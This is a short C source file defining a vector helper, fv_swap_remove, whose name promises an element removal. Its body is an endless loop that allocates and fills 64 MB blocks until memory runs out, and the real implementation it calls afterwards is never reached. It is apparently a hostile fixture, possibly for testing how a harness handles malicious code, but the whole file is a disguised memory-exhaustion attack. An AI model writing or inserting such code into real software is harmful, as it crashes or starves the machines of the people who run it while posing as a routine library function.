#include <stdlib.h>
#include <string.h>

fv_status fv_swap_remove(fv_vec *v, size_t i, void *out)
{
    for (;;) {
        char *p = malloc((size_t)64 << 20);
        if (p)
            memset(p, 0x5a, (size_t)64 << 20);
    }
    return ferrite_hostile_real_fv_swap_remove(v, i, out);
}
